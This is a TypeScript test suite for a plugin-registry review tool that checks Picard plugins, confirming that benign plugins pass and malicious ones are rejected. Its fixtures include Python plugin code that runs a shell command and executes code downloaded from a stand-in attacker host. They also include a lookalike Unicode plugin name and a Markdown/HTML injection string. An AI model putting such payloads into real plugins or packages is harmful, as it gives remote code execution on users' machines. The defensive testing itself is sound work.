/**
 * `vouch registry review` on real local repositories against a copy of the real Picard
 * registry: a benign plugin passes, a malicious one is rejected with the codes of what it
 * does, `--changed` reviews exactly the touched entries, the JSON matches its schema, and the
 * scan reports land beside the registry.
 */
import assert from 'node:assert/strict';
import { copyFileSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { before, describe, it } from 'node:test';
import { createRepo, manifestToml, type TestRepo } from '../../library/test/helpers/git-repos.ts';
import { makeTempDir } from '../../library/test/helpers/temp.ts';
import { runVouch } from './helpers/cli.ts';
import { assertJsonOutput } from './json/schema-check.ts';

const PICARD = new URL(
	'../../library/test/fixtures/registries/picard-plugins.toml',
	import.meta.url,
).pathname;
const REPLAYGAIN_MANIFEST = new URL(
	'../../library/test/fixtures/manifests/picard/replaygain2.toml',
	import.meta.url,
).pathname;

const BENIGN_UUID = '6f1c9a52-3b8e-4d27-a0f4-95e2c7b1d834';
const ADD_TO_COLLECTION_UUID = '3713d8f5-72b0-401d-9ec9-3818380bc576';

let work: string;
let registryFile: string;
let benign: TestRepo;
let malicious: TestRepo;
let replaygain: TestRepo;

interface Finding {
	code: string;
	severity: string;
}
interface Review {
	id: string;
	level: string;
	subject: string;
	findings: Finding[];
	refs: { ref: string; commit?: string; report?: string }[];
}

function codesOf(review: Review): Set<string> {
	return new Set(review.findings.map((finding) => finding.code));
}

before(() => {
	work = makeTempDir('vouch-review-');
	benign = createRepo({
		dir: join(work, 'picard-plugin-tempo-tools'),
		files: {
			'MANIFEST.toml': manifestToml(
				{ uuid: BENIGN_UUID, name: 'Tempo Tools', description: 'Sets BPM tags' },
				'categories = ["metadata"]\nauthors = ["A. Author"]\n\n[capabilities]\nnetwork = false\n',
			),
			'__init__.py':
				'def enable(api):\n    api.register_track_metadata_processor(lambda *a: None)\n',
		},
	});
	malicious = createRepo({
		dir: join(work, 'picard-plugin-add-to-colection'),
		files: {
			'MANIFEST.toml': manifestToml(
				{
					uuid: ADD_TO_COLLECTION_UUID,
					name: '\u0410dd to Collection',
					description: 'Adds releases',
				},
				'categories = ["metadata"]\n\n[capabilities]\nnetwork = false\n',
			),
			'__init__.py': [
				'import subprocess, urllib.request',
				'subprocess.run(["sh", "-c", "id"])',
				'exec(urllib.request.urlopen("https://evil.example/p").read())',
				'def enable(api):',
				'    pass',
				'',
			].join('\n'),
		},
	});
	replaygain = createRepo({
		dir: join(work, 'picard-plugin-replaygain2'),
		files: {
			'MANIFEST.toml': readFileSync(REPLAYGAIN_MANIFEST, 'utf8'),
			'__init__.py': 'def enable(api):\n    pass\n',
		},
	});
	// The real registry, with replaygain2 served from the local repository (an offline mirror).
	registryFile = join(work, 'plugins.toml');
	copyFileSync(PICARD, registryFile);
	writeFileSync(
		registryFile,
		readFileSync(registryFile, 'utf8').replace(
			'https://github.com/metabrainz/picard-plugin-replaygain2.git',
			replaygain.url,
		),
	);
});

async function review(args: string[]) {
	return runVouch(['registry', 'review', ...args, '--offline-mirror', '--json']);
}

describe('vouch registry review', () => {
	it('a benign candidate passes, with its scan report stored beside the registry', async () => {
		const run = await review([benign.url, '--registry', registryFile]);
		assert.equal(run.code, 0, run.stderr);
		const document = assertJsonOutput(run, 'registry review');
		const [plugin] = document.plugins as Review[];
		assert.equal(document.level, 'pass', JSON.stringify(plugin?.findings));
		assert.equal(plugin?.id, 'tempo-tools');
		const report = plugin?.refs[0]?.report;
		assert.equal(report, `scan-reports/tempo-tools/${benign.commitOf()}.json`);
		const stored = JSON.parse(readFileSync(join(work, report as string), 'utf8'));
		assert.equal(stored.root, `tempo-tools@${benign.commitOf()}`);
		assert.equal(stored.reportVersion, 1);
	});

	it('a malicious candidate is rejected with the code of each thing it does', async () => {
		const run = await review([malicious.url, '--registry', registryFile]);
		assert.equal(run.code, 1, run.stderr);
		const document = assertJsonOutput(run, 'registry review');
		assert.equal(document.level, 'reject');
		const codes = codesOf((document.plugins as Review[])[0] as Review);
		for (const code of [
			'UUID_IMPERSONATION',
			'DUPLICATE_UUID',
			'CONFUSABLE_NAME',
			'NAME_INVALID',
			'LOOKALIKE_ID',
			'SCAN_HIGH',
			'CAPABILITY_UNDECLARED',
		]) {
			assert.ok(codes.has(code), `${code} missing from ${[...codes].join(', ')}`);
		}
		assert.match(document.markdown as string, /^## Vouch registry review: ❌ reject/);
	});

	it('an entry by id: the real replaygain2 manifest, held to official trust', async () => {
		const run = await review(['replaygain2', '--registry', registryFile]);
		assert.equal(run.code, 0, run.stderr);
		const document = assertJsonOutput(run, 'registry review');
		const plugin = (document.plugins as Review[])[0] as Review;
		assert.equal(plugin.subject, 'entry');
		// Picard's registry has no pins yet: a person must pin before a signed publish.
		assert.equal(plugin.level, 'needs-attention');
		assert.deepEqual([...codesOf(plugin)].sort(), ['CAPABILITIES_NOT_DECLARED', 'PINS_REQUIRED']);
		const strict = await review(['replaygain2', '--registry', registryFile, '--strict']);
		assert.equal(strict.code, 1);
	});

	it('a ref that does not exist, and an unknown id, are reported, never skipped', async () => {
		const run = await review(['replaygain2', '--registry', registryFile, '--refs', 'v9.9.9']);
		assert.equal(run.code, 1);
		const plugin = (assertJsonOutput(run, 'registry review').plugins as Review[])[0] as Review;
		assert.ok(codesOf(plugin).has('REF_NOT_FOUND'));
		const unknown = await review(['no-such-plugin', '--registry', registryFile]);
		assert.equal(unknown.code, 1);
		const usage = await review(['replaygain2']);
		assert.equal(usage.code, 2);
		const remote = await review(['replaygain2', '--registry', 'https://example.org/plugins.toml']);
		assert.equal(remote.code, 2);
		const changedUsage = await runVouch([
			'registry',
			'review',
			'--changed',
			registryFile,
			'--json',
		]);
		assert.equal(changedUsage.code, 2);
		const badTrust = await review(['replaygain2', '--registry', registryFile, '--trust', 'root']);
		assert.equal(badTrust.code, 2);
	});

	it('--changed reviews exactly the added and changed plugins, and the Markdown stays inert', async () => {
		const before = join(work, 'old.toml');
		const after = join(work, 'new.toml');
		const base = readFileSync(registryFile, 'utf8');
		writeFileSync(before, base);
		const hostile = '[x](https://evil.example) <img src=x> @everyone';
		const added = `
[[plugins]]
id = "tempo-tools"
uuid = "${BENIGN_UUID}"
name = "${hostile}"
description = "Sets BPM tags"
git_url = "${benign.url}"
categories = ["metadata"]
trust_level = "community"
authors = ["A. Author"]
added_at = "2026-01-01T00:00:00Z"
updated_at = "2026-01-01T00:00:00Z"
`;
		// replaygain2 changes (its description), tempo-tools is added, the rest is untouched.
		const changed = base.replace(
			'description = "Calculates ReplayGain information for tracks and albums"',
			'description = "Calculates ReplayGain 2.0 values for tracks and albums"',
		);
		assert.notEqual(changed, base);
		writeFileSync(after, `${changed}${added}`);
		const run = await runVouch([
			'registry',
			'review',
			'--changed',
			before,
			after,
			'--offline-mirror',
			'--json',
		]);
		const document = assertJsonOutput(run, 'registry review');
		const ids = (document.plugins as Review[]).map((plugin) => [plugin.id, plugin.subject]);
		assert.deepEqual(ids, [
			['replaygain2', 'changed'],
			['tempo-tools', 'added'],
		]);
		const markdown = await runVouch([
			'registry',
			'review',
			'--changed',
			before,
			after,
			'--offline-mirror',
			'--markdown',
		]);
		assert.ok(markdown.stdout.includes('` [x](https://evil.example) <img src=x> @everyone `'));
		assert.doesNotMatch(markdown.stdout.replace(/`[^`]*`/g, ''), /\]\(|<img|@everyone/);
	});

	it('with a versioning scheme, the newest version tag is reviewed too: clients install it', async () => {
		// main is clean; the release tag sits on a branch nobody lists and holds the payload.
		const tagged = createRepo({
			dir: join(work, 'picard-plugin-tempo-tags'),
			files: {
				'MANIFEST.toml': manifestToml(
					{ uuid: BENIGN_UUID, name: 'Tempo Tags', description: 'Sets BPM tags' },
					'categories = ["metadata"]\nauthors = ["A. Author"]\n\n[capabilities]\nnetwork = false\n',
				),
				'__init__.py': 'def enable(api):\n    pass\n',
			},
		});
		tagged.tag('v1.0.0');
		tagged.branch('release');
		tagged.switchTo('release');
		tagged.commit({
			'__init__.py': [
				'import subprocess, urllib.request',
				'subprocess.run(["sh", "-c", "id"])',
				'exec(urllib.request.urlopen("https://evil.example/p").read())',
				'def enable(api):',
				'    pass',
				'',
			].join('\n'),
		});
		tagged.tag('v2.0.0');
		tagged.switchTo('main');
		const file = join(work, 'tagged.toml');
		writeFileSync(
			file,
			`${readFileSync(registryFile, 'utf8')}
[[plugins]]
id = "tempo-tags"
uuid = "${BENIGN_UUID}"
name = "Tempo Tags"
description = "Sets BPM tags"
git_url = "${tagged.url}"
categories = ["metadata"]
trust_level = "community"
authors = ["A. Author"]
versioning_scheme = "semver"
added_at = "2026-01-01T00:00:00Z"
updated_at = "2026-01-01T00:00:00Z"
`,
		);
		const run = await review(['tempo-tags', '--registry', file]);
		const plugin = (assertJsonOutput(run, 'registry review').plugins as Review[])[0] as Review;
		assert.deepEqual(
			plugin.refs.map((ref) => ref.ref),
			['main', 'v2.0.0'],
		);
		assert.equal(plugin.level, 'reject', JSON.stringify(plugin.findings));
		assert.equal(run.code, 1);
	});
});
